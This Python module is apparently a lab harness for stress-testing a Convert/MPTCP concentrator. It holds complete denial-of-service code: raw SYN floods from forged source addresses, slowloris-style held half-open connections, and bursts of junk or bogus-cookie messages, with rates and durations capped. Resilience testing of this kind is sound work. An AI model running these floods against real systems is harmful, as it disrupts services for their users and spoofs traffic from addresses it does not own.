"""Attacks on a concentrator's service port, for a lab and nowhere else: each has its number, its rate and its end.

``python -m cpe_mcp.lab.attacks KIND ADDRESS PORT NUMBER SECONDS`` in the namespace of a host, IPv4 only. KIND is

* ``syn``: NUMBER SYNs/s with MP_CAPABLE from forged sources, FORGED, each from another address and port;
* ``syn-source``, ``syn-prefix``: the same from the first address of FORGED, and from its first 256;
* ``idle``: NUMBER connections at once that send half a header and wait; one that is reset is replaced;
* ``garbage``: NUMBER connections/s that send what is no Convert message, or one with a cookie of nobody, and reset.

The connections come from SOURCES, which the host must have (:func:`address_lines`). Prints what it did as JSON.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from functools import partial
from itertools import cycle

FORGED, FORGED_COUNT = "198.18.0.0/16", 2**16
SOURCES = tuple(f"198.19.{number}.1" for number in range(64))
"""Benchmarking addresses (RFC 2544): each of the sources in a /24 of its own, so that no limit on a prefix ends the attack."""
SECONDS_MAX, NUMBER_MAX = 30.0, 50_000
"""However it is called."""
TICK_S = 0.005
UNANSWERED_MAX = 1500
"""Handshakes of ours under way: those whose SYN was dropped are given up, the oldest first."""
OPENED_PER_TICK = 10
HALF = b"\x01"
MAGIC = b"\x22\x63"
IP_BIND_ADDRESS_NO_PORT = 24
"""linux/in.h; the socket module has it since Python 3.12."""
LINGER = struct.pack("ii", 1, 0)
MSS_AND_MP_CAPABLE = bytes([2, 4, 5, 180, 30, 4, 1, 1])
"""TCP options of a SYN: MSS 1460, and MP_CAPABLE version 1 with HMAC-SHA256 (RFC 8684 section 3.1)."""


def address_lines(device: str) -> list[str]:
    """``ip`` lines that give a host the addresses of the attackers."""
    return [f"address add {source}/32 dev {device}" for source in SOURCES]


def syn_packets(address: str, port: int, count: int, senders: int = FORGED_COUNT) -> Iterator[bytes]:
    """IPv4 packets with a SYN from forged sources, the first ``senders`` of FORGED (a power of 2), no two of them alike."""
    to = socket.inet_aton(address)
    source = int.from_bytes(socket.inet_aton(FORGED.partition("/")[0]), "big")
    length = 20 + len(MSS_AND_MP_CAPABLE)
    for number in range(count):
        sender = struct.pack("!I", source + (number * 40503 & senders - 1))
        head = struct.pack(
            "!HHIIBBH", 1024 + number % 60000, port, number * 65537 & 0xFFFFFFFF, 0, length << 2, 2, 65535
        )
        pseudo = sender + to + struct.pack("!HH", socket.IPPROTO_TCP, length)
        words = pseudo + head + bytes(4) + MSS_AND_MP_CAPABLE
        sum_ = sum(struct.unpack(f"!{len(words) // 2}H", words))
        while sum_ >> 16:
            sum_ = (sum_ & 0xFFFF) + (sum_ >> 16)
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0x4000, 64, socket.IPPROTO_TCP, 0) + sender + to
        yield ip + head + struct.pack("!HH", ~sum_ & 0xFFFF, 0) + MSS_AND_MP_CAPABLE


def syn(address: str, port: int, number: int, seconds: float, *, senders: int = FORGED_COUNT) -> dict[str, float]:
    """See the module. The packets are made before the clock starts."""
    packets = list(syn_packets(address, port, int(number * seconds), senders))
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        started = time.monotonic()
        while sent < len(packets) and (passed := time.monotonic() - started) < seconds:
            for packet in packets[sent : int(number * passed)]:
                with contextlib.suppress(BlockingIOError):
                    sock.sendto(packet, socket.MSG_DONTWAIT, (address, 0))
                sent += 1
            time.sleep(TICK_S)
        return {"sent": sent, "seconds": round(time.monotonic() - started, 2)}


def idle(address: str, port: int, number: int, seconds: float) -> dict[str, float]:
    """See the module."""
    held: dict[int, socket.socket] = {}
    sources = cycle(SOURCES)
    opened = ended = most = 0
    poll = select.epoll()
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        for _ in range(min(OPENED_PER_TICK, number - len(held))):
            sock = _connect(address, port, next(sources))
            if sock is None:
                continue
            opened += 1
            held[sock.fileno()] = sock
            poll.register(sock.fileno(), select.EPOLLOUT | select.EPOLLRDHUP | select.EPOLLET)
        for descriptor, mask in poll.poll(TICK_S):
            if mask & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP):
                ended += 1
                held.pop(descriptor).close()
            elif mask & select.EPOLLOUT:
                with contextlib.suppress(OSError):
                    held[descriptor].send(HALF)
        most = max(most, len(held))
        time.sleep(TICK_S)
    for sock in held.values():
        _reset(sock)
    return {"opened": opened, "ended_by_the_other_side": ended, "at_once": most, "seconds": seconds}


def garbage(address: str, port: int, number: int, seconds: float) -> dict[str, float]:
    """See the module. ``sent`` counts messages, ``opened`` handshakes that were begun."""
    opening: dict[int, socket.socket] = {}
    sources = cycle(SOURCES)
    opened = sent = 0
    poll = select.epoll()
    started = time.monotonic()
    while (passed := time.monotonic() - started) < seconds:
        while opened < number * passed:
            opened += 1
            sock = _connect(address, port, next(sources))
            if sock is not None:
                opening[sock.fileno()] = sock
                poll.register(sock.fileno(), select.EPOLLOUT)
        for descriptor, mask in poll.poll(0, 4096):
            sock = opening.pop(descriptor)
            if not mask & (select.EPOLLHUP | select.EPOLLERR):
                with contextlib.suppress(OSError):
                    sent += bool(sock.send(_nonsense(sent)))
            _reset(sock)
        while len(opening) > UNANSWERED_MAX:
            _reset(opening.pop(next(iter(opening))))
        time.sleep(TICK_S / 5)
    for sock in opening.values():
        _reset(sock)
    return {"opened": opened, "sent": sent, "seconds": round(time.monotonic() - started, 2)}


def _nonsense(number: int) -> bytes:
    """Every other one is a header with a cookie that nobody has, which has to be looked up; the rest is noise."""
    if number % 2:
        return os.urandom(64)
    return bytes([1, 12]) + MAGIC + bytes([22, 5, 0, 0]) + os.urandom(16)


def _connect(address: str, port: int, source: str) -> socket.socket | None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
    try:
        sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        sock.bind((source, 0))
        error = sock.connect_ex((address, port))
    except OSError:
        sock.close()
        return None
    if error not in (0, errno.EINPROGRESS):
        sock.close()
        return None
    return sock


def _reset(sock: socket.socket) -> None:
    with contextlib.suppress(OSError):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER)
    sock.close()


ATTACKS: dict[str, Callable[[str, int, int, float], dict[str, float]]] = {
    "syn": syn,
    "syn-source": partial(syn, senders=1),
    "syn-prefix": partial(syn, senders=256),
    "idle": idle,
    "garbage": garbage,
}


def argv(kind: str, address: str, port: int, number: int, seconds: float) -> list[str]:
    """The command line of one attack."""
    return [sys.executable, "-m", "cpe_mcp.lab.attacks", kind, address, str(port), str(number), str(seconds)]


def main() -> None:
    """See the module."""
    kind, address, port, number, seconds = sys.argv[1:]
    found = ATTACKS[kind](address, int(port), min(int(number), NUMBER_MAX), min(float(seconds), SECONDS_MAX))
    print(json.dumps(found))


if __name__ == "__main__":
    main()
